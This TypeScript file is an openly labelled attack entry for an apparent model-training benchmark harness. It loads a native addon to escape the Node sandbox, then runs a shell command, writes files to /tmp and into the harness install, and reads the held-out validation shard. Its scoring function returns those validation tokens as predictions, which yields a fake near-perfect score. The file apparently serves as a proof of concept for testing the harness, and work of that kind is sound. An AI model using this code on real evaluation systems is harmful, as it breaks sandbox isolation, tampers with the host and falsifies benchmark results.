// Attack: the sandboxed child runs with --allow-addons (onnxruntime needs it), so the entry can load its
// own native addon (escape.node, counted as code) with process.dlopen. Native code is not under Node's
// permission model: it reads the validation shard, writes anywhere, and starts processes.
import * as path from "node:path";
import { fileURLToPath } from "node:url";
import type { TrainContext, LoadContext, EntryModel } from "pgolf";

const HERE = path.dirname(fileURLToPath(import.meta.url));
const PGOLF_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.resolve("pgolf"))), "..");
const VAL = path.join(PGOLF_ROOT, "data/sotu-sp1024/datasets/sotu_sp1024/sotu_val_000000.bin");
function native(): { readFile(p: string): Buffer | null; writeFile(p: string, s: string): boolean; run(c: string): string } {
  const m = { exports: {} as any };
  (process as any).dlopen(m, path.join(HERE, "escape.node"));
  return m.exports;
}

export async function train(ctx: TrainContext): Promise<Uint8Array> {
  const n = native();
  ctx.log(`native run(id): ${n.run("id").trim()}`);
  ctx.log(`native read val shard: ${n.readFile(VAL)?.length ?? "null"} bytes`);
  ctx.log(`native write /tmp/pgatk_native_train: ${n.writeFile("/tmp/pgatk_native_train", "written by the training sandbox\n")}`);
  ctx.log(`native write pgolf dist: ${n.writeFile(path.join(PGOLF_ROOT, "dist/pgatk_native_marker"), "pgolf install written by an entry\n")}`);
  return new Uint8Array([0]);
}

export async function load(_artifact: Uint8Array, ctx: LoadContext): Promise<EntryModel> {
  const n = native();
  const buf = n.readFile(VAL)!;
  const count = buf.readInt32LE(8);
  const stream = new Uint16Array(buf.buffer.slice(buf.byteOffset + 1024, buf.byteOffset + 1024 + count * 2));
  n.writeFile("/tmp/pgatk_native_eval", `eval sandbox read ${count} validation tokens\n`);
  process.stderr.write(`[native] read ${count} validation tokens from ${VAL}\n`);
  const V = ctx.vocabSize, eps = Number(ctx.config.eps ?? 1e-6);
  const hit = Math.log(1 - eps), miss = Math.log(eps / (V - 1));
  return {
    async score(tokens: Int32Array, history: Int32Array): Promise<Float32Array> {
      const out = new Float32Array(tokens.length * V).fill(miss);
      for (let j = 0; j < tokens.length; j++) out[j * V + stream[history.length + j]] = hit;
      return out;
    },
  };
}
